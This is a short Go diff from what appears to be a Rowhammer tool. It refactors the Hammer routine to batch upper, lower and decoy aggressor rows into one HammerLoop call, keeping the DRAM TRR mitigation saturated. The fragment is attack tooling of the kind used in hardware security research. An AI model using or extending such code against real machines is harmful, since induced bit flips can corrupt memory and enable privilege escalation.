@@ -254,18 +254,11 @@ func (e *Engine) selectDecoys(idx map[[2]int]vm.VirtAddr, bg, victimRow int) ([]
 // Many-sided runs interleave the decoy rows into every round, keeping the
 // TRR tracker saturated.
 func (e *Engine) Hammer(agg Aggressors, n int) error {
-	for i := 0; i < n; i++ {
-		if err := e.proc.Hammer(agg.Upper); err != nil {
-			return err
-		}
-		if err := e.proc.Hammer(agg.Lower); err != nil {
-			return err
-		}
-		for _, d := range agg.Decoys {
-			if err := e.proc.Hammer(d); err != nil {
-				return err
-			}
-		}
+	vas := make([]vm.VirtAddr, 0, 2+len(agg.Decoys))
+	vas = append(vas, agg.Upper, agg.Lower)
+	vas = append(vas, agg.Decoys...)
+	if err := e.proc.HammerLoop(vas, n); err != nil {
+		return err
 	}
 	e.st.Pairsentries++
 	e.st.Activations += uint64(n * (2 + len(agg.Decoys)))
